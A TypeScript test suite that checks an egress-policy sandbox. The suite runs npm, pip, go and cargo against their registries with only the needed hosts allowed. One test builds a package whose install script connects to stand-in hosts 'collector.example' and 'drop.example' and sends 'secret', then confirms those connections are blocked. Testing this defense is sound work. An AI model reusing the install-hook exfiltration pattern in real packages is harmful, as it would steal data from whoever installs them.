/**
 * Package managers behind a policy of nothing but the hosts that they need: four TLS stacks against real registries, as
 * root and as an ordinary user. No registry is named here: npm says its own, and the others are watched once under
 * `--on-violation Notify`. One small package each; what is already in a cache of the machine is not used.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chownSync, copyFileSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, it, type TestContext } from 'vitest';
import { findProgram, SYSTEM_PATH } from './machine.ts';
import {
  makeWorkspace,
  ROOT,
  PEOPLE,
  readRecords,
  runSallyport,
  USER,
  whyNot,
  type Finished,
  type LoggedRecord,
  type Person,
  type Workspace,
} from './sallyport.ts';

interface Tool {
  readonly name: string;
  readonly command: readonly string[];
  readonly env: Readonly<Record<string, string>>;
  /** A folder that the person can enter only when it is mounted elsewhere. */
  readonly mount?: { readonly from: string; readonly at: string };
  /** Whether the package is there. */
  readonly fetched: (workspace: Workspace) => boolean;
}

/** Readies a folder for one run, with the settings that whoever runs the suite has. `undefined`: not installed. */
type Prepare = (workspace: Workspace, person: Person) => Tool | undefined;

// an npm that runs the suite leaves its own settings, which are not the machine's
const WITHOUT_NPM = [
  'env',
  ...Object.keys(process.env)
    .filter((name) => /^npm_/i.test(name))
    .map((name) => `--unset=${name}`),
];
const outside: { encoding: 'utf8'; stdio: ['ignore', 'pipe', 'ignore'] } = {
  encoding: 'utf8',
  stdio: ['ignore', 'pipe', 'ignore'],
};

const npm: Prepare = (workspace, person) => {
  if (findProgram('npm') === undefined) return undefined;
  put(workspace, person, 'package.json', JSON.stringify({ name: 'consumer', version: '1.0.0', private: true }));
  return {
    name: 'npm',
    command: ['npm', 'install', '--no-audit', '--no-fund', '--no-update-notifier', 'ms@2.1.3'],
    env: { ...npmSettings(workspace, person), npm_config_cache: join(workspace.path, 'cache') },
    fetched: ({ path }) => existsSync(join(path, 'node_modules/ms/index.js')),
  };
};

const pip: Prepare = (workspace, person) => {
  const python = findProgram('python3');
  if (python === undefined || spawnSync(python, ['-m', 'pip', '--version']).status !== 0) return undefined;
  const settings = ['.config/pip/pip.conf', '.pip/pip.conf']
    .map((name) => join(homedir(), name))
    .find((path) => existsSync(path));
  return {
    name: 'pip',
    command: [
      python,
      '-m',
      'pip',
      'download',
      '--no-cache-dir',
      '--no-deps',
      '--disable-pip-version-check',
      '--dest',
      'wheels',
      'six==1.17.0',
    ],
    // wheels that lie on the machine would need no registry
    env: {
      PIP_FIND_LINKS: '',
      ...(settings === undefined ? {} : { PIP_CONFIG_FILE: take(workspace, person, settings, 'pip.conf') }),
    },
    fetched: ({ path }) => existsSync(join(path, 'wheels')) && readdirSync(join(path, 'wheels')).length === 1,
  };
};

const go: Prepare = (workspace, person) => {
  const program = findProgram('go', `${process.env['PATH'] ?? ''}:/usr/local/go/bin`);
  if (program === undefined) return undefined;
  put(workspace, person, 'go.mod', 'module consumer\n\ngo 1.20\n\nrequire github.com/pkg/errors v0.9.1\n');
  const settings = JSON.parse(
    execFileSync(program, ['env', '-json', 'GOPROXY', 'GOSUMDB', 'GONOSUMDB', 'GOPRIVATE', 'GONOPROXY'], outside),
  ) as Record<string, string>;
  return {
    name: 'go',
    command: [program, 'mod', 'download', '-modcacherw', 'github.com/pkg/errors'],
    env: {
      ...settings,
      GOFLAGS: '',
      GOTOOLCHAIN: 'local',
      GOPATH: join(workspace.path, 'gopath'),
      GOMODCACHE: join(workspace.path, 'modules'),
      GOCACHE: join(workspace.path, 'build'),
    },
    fetched: ({ path }) => existsSync(join(path, 'modules/github.com/pkg/errors@v0.9.1/errors.go')),
  };
};

const cargo: Prepare = (workspace, person) => {
  const rustc = findProgram('rustc', process.env['PATH']);
  if (rustc === undefined) return undefined;
  // a toolchain in somebody's home is closed to others: they see it in the folder, in a mount namespace of its own
  const sysroot = execFileSync(rustc, ['--print', 'sysroot'], outside).trim();
  if (!existsSync(join(sysroot, 'bin/cargo'))) return undefined;
  const isRoot = process.getuid?.() === 0;
  const toolchain = isRoot ? join(workspace.path, 'toolchain') : sysroot;
  for (const folder of ['toolchain', 'home', 'src']) {
    mkdirSync(join(workspace.path, folder));
    give(join(workspace.path, folder), person);
  }
  const settings = join(homedir(), '.cargo/config.toml');
  if (existsSync(settings)) take(workspace, person, settings, 'home/config.toml');
  const manifest = '[package]\nname = "consumer"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\ncfg-if = "1"\n';
  put(workspace, person, 'Cargo.toml', manifest);
  put(workspace, person, 'src/lib.rs', '');
  return {
    name: 'cargo',
    command: [join(toolchain, 'bin/cargo'), 'fetch'],
    env: { CARGO_HOME: join(workspace.path, 'home'), RUSTC: join(toolchain, 'bin/rustc') },
    ...(isRoot && { mount: { from: sysroot, at: toolchain } }),
    fetched: ({ path }) => {
      const sources = join(path, 'home/registry/src');
      if (!existsSync(sources)) return false;
      const files = readdirSync(sources, { recursive: true, encoding: 'utf8' });
      return files.some((file) => /cfg-if-1[^/]*\/src\/lib\.rs$/.test(file));
    },
  };
};

const TOOLS: Readonly<Record<string, Prepare>> = { npm, pip, go, cargo };

function give(path: string, person: Person): void {
  if (process.getuid?.() === 0) chownSync(path, person.uid, person.uid);
}

function put(workspace: Workspace, person: Person, name: string, text: string): string {
  const path = join(workspace.path, name);
  writeFileSync(path, text, { mode: 0o600 });
  give(path, person);
  return path;
}

/** A copy of a settings file that only this person may read. */
function take(workspace: Workspace, person: Person, from: string, name: string): string {
  const path = put(workspace, person, name, '');
  copyFileSync(from, path);
  return path;
}

function npmSettings(workspace: Workspace, person: Person): Record<string, string> {
  const settings = join(homedir(), '.npmrc');
  return existsSync(settings) ? { npm_config_userconfig: take(workspace, person, settings, 'npmrc') } : {};
}

/** Where npm is told to fetch from, by this machine's settings. */
function npmRegistry(): URL {
  const [program, ...rest] = ['env', ...WITHOUT_NPM.slice(1), 'npm', 'config', 'get', 'registry'] as const;
  return new URL(execFileSync(program, rest, outside).trim());
}

function policyFor(hosts: readonly string[]): string {
  return `apiVersion: sallyport.dev/v1alpha1
kind: SecurityPolicy
metadata: {name: registries}
spec:
  podSelector: {}
  default: Deny
  allow:
  - tls: {hosts: ${JSON.stringify(hosts)}}
`;
}

/** `more`: further arguments of the tool. */
function run(
  tool: Tool,
  workspace: Workspace,
  person: Person,
  args: readonly string[],
  ...more: string[]
): Promise<Finished> {
  const options = {
    cwd: workspace.path,
    // the folders where whoever runs the suite keeps programs may be closed to others
    env: { HOME: workspace.path, PATH: `${dirname(process.execPath)}:${SYSTEM_PATH}`, ...tool.env },
    timeoutMs: 100_000,
  };
  const line = [...args, '--', ...WITHOUT_NPM, ...tool.command, ...more];
  if (tool.mount === undefined) return runSallyport(person, line, options);
  const { from, at } = tool.mount;
  const within = [
    'unshare',
    '--mount',
    'sh',
    '-c',
    `mount --bind "$0" "$1"; shift; exec "$@"`,
    from,
    at,
    ...person.prefix,
  ];
  return runSallyport(ROOT, line, { ...options, within });
}

/** Hosts that were connected to, by the record. */
function hostsOf(records: readonly LoggedRecord[]): string[] {
  const names = records
    .filter(({ class: kind }) => kind !== 'dns')
    .map(({ destination }) => destination.requestedName ?? destination.address);
  return [...new Set(names)].sort();
}

/** What a tool reaches when it may reach everything. Learned once; kept with why it could not be. */
const learned = new Map<string, Promise<readonly string[]>>();

async function learn(name: string, prepare: Prepare): Promise<readonly string[]> {
  const workspace = makeWorkspace(USER);
  try {
    const tool = prepare(workspace, USER);
    if (tool === undefined) return [];
    const log = join(workspace.path, 'learned.jsonl');
    const { code, stderr } = await run(tool, workspace, USER, [
      '--on-violation',
      'Notify',
      '--log',
      log,
      '--summary',
      'always',
    ]);
    expect(code, `${name} under Notify:\n${stderr}`).toBe(0);
    expect(tool.fetched(workspace)).toBe(true);
    const records = readRecords(log);
    expect(records.filter(({ verdict }) => verdict === 'denied')).toEqual([]);
    const hosts = hostsOf(records);
    // the summary shows what the log has
    for (const host of hosts)
      expect(stderr).toMatch(new RegExp(`^ {2}(allowed|notified) +\\d+ +tls +${host.replaceAll('.', '\\.')}:443`, 'm'));
    return hosts;
  } finally {
    workspace.close();
  }
}

function skipUnless(tool: Tool | undefined, name: string, context: TestContext): asserts tool is Tool {
  if (tool === undefined) context.skip(`skipped, because ${name} is not installed`);
}

describe.each(Object.entries(TOOLS))('%s', (name, prepare) => {
  describe.each(PEOPLE)('as $name', (person) => {
    it('fetches under a policy of nothing but its own hosts', { timeout: 240_000 }, async (context) => {
      const lack = whyNot(person);
      if (lack !== undefined) context.skip(lack);
      const workspace = makeWorkspace(person);
      try {
        const tool = prepare(workspace, person);
        skipUnless(tool, name, context);
        let hosts: readonly string[];
        if (name === 'npm') hosts = [npmRegistry().hostname];
        else {
          if (!learned.has(name)) learned.set(name, learn(name, prepare));
          hosts = (await learned.get(name)) ?? [];
        }
        expect(hosts.length).toBeGreaterThan(0);
        const log = join(workspace.path, 'log.jsonl');
        const policy = workspace.file('policy.yaml', policyFor(hosts));
        const { code, stderr } = await run(tool, workspace, person, ['--policy', policy, '--log', log]);
        expect(code, stderr).toBe(0);
        expect(tool.fetched(workspace)).toBe(true);
        const records = readRecords(log);
        const reached = records.filter(({ class: kind }) => kind !== 'dns');
        expect(reached.length).toBeGreaterThan(0);
        for (const record of reached)
          expect(record).toMatchObject({ verdict: 'allowed', class: 'tls', policy: 'registries' });
        for (const host of hostsOf(records)) expect(hosts).toContain(host);
        expect(records.filter(({ verdict }) => verdict !== 'allowed')).toEqual([]);
      } finally {
        workspace.close();
      }
    });

    it('fetches nothing under a policy that allows other hosts', { timeout: 120_000 }, async (context) => {
      const lack = whyNot(person);
      if (lack !== undefined) context.skip(lack);
      const workspace = makeWorkspace(person);
      try {
        const tool = prepare(workspace, person);
        skipUnless(tool, name, context);
        const log = join(workspace.path, 'log.jsonl');
        const policy = workspace.file('policy.yaml', policyFor(['other.example']));
        // no tool should try for long what cannot succeed
        const impatient = {
          ...tool,
          env: { ...tool.env, npm_config_fetch_retries: '0', PIP_RETRIES: '0', CARGO_NET_RETRY: '0' },
        };
        const { code, stderr } = await run(impatient, workspace, person, ['--policy', policy, '--log', log]);
        expect(code).not.toBe(0);
        const records = readRecords(log);
        expect(records.length).toBeGreaterThan(0);
        for (const record of records)
          expect(record).toMatchObject({ verdict: 'denied', reason: 'no-rule', class: 'dns' });
        const asked = records[0]?.tags['dns.name'] ?? '';
        expect(stderr).toContain(`  - tls: {hosts: [${asked}]}`);
      } finally {
        workspace.close();
      }
    });
  });
});

describe.each(PEOPLE)('an install script that connects elsewhere, as $name,', (person) => {
  // by a name, and by an address with somebody's name on it
  const SCRIPT = `
const tls = require('node:tls');
const by = (options) => new Promise((resolve) => {
  const socket = tls.connect({ port: 443, rejectUnauthorized: false, ...options }, () => { socket.write('secret'); resolve('connected'); });
  socket.on('error', (error) => resolve(error.code));
});
(async () => {
  const said = [await by({ host: 'collector.example' }), await by({ host: '198.18.0.1', servername: 'drop.example' })];
  require('node:fs').writeFileSync(process.env.SAID, said.join());
  if (!said.includes('connected')) process.exit(9);
})();
`;

  it('is stopped: the record names the host, and the summary gives the rule', { timeout: 120_000 }, async (context) => {
    const lack = whyNot(person);
    if (lack !== undefined) context.skip(lack);
    const workspace = makeWorkspace(person);
    try {
      const prepared = npm(workspace, person);
      skipUnless(prepared, 'npm', context);
      const tarball = makePackage(workspace, person, SCRIPT);
      const said = join(workspace.path, 'said');
      const tool = { ...prepared, env: { ...prepared.env, SAID: said } };
      const log = join(workspace.path, 'log.jsonl');
      const policy = workspace.file('policy.yaml', policyFor([npmRegistry().hostname]));
      const { code, stderr } = await run(tool, workspace, person, ['--policy', policy, '--log', log], tarball);
      expect(existsSync(said), `the install script ran:\n${stderr}`).toBe(true);
      expect(code).not.toBe(0);
      expect(existsSync(join(workspace.path, 'node_modules/curious'))).toBe(false);

      const denied = readRecords(log).filter(({ verdict }) => verdict === 'denied');
      expect(denied).toContainEqual(
        expect.objectContaining({
          reason: 'no-rule',
          class: 'dns',
          tags: expect.objectContaining({ 'dns.name': 'collector.example' }) as unknown,
        }),
      );
      expect(denied).toContainEqual(
        expect.objectContaining({
          class: 'tls',
          destination: expect.objectContaining({
            address: '198.18.0.1',
            port: 443,
            requestedName: 'drop.example',
          }) as unknown,
        }),
      );
      expect(stderr).toContain('  - tls: {hosts: [collector.example]}\n');
      expect(stderr).toContain('  - tls: {hosts: [drop.example], ports: [443]}\n');
      // the registry itself was reached meanwhile
      const allowed = readRecords(log).filter(({ verdict, class: kind }) => verdict === 'allowed' && kind === 'tls');
      expect(hostsOf(allowed)).toEqual([npmRegistry().hostname]);
    } finally {
      workspace.close();
    }
  });
});

/** A package of one install script, as a tarball in the folder; newer npms run such scripts where the project says so. */
function makePackage(workspace: Workspace, person: Person, script: string): string {
  const folder = join(workspace.path, 'package');
  mkdirSync(folder);
  writeFileSync(
    join(folder, 'package.json'),
    JSON.stringify({ name: 'curious', version: '1.0.0', scripts: { install: 'node install.js' } }),
  );
  writeFileSync(join(folder, 'install.js'), script);
  const tarball = join(workspace.path, 'curious-1.0.0.tgz');
  execFileSync('tar', ['-czf', tarball, '-C', workspace.path, 'package']);
  give(tarball, person);
  put(
    workspace,
    person,
    'package.json',
    JSON.stringify({ name: 'consumer', version: '1.0.0', private: true, allowScripts: { curious: true } }),
  );
  return tarball;
}
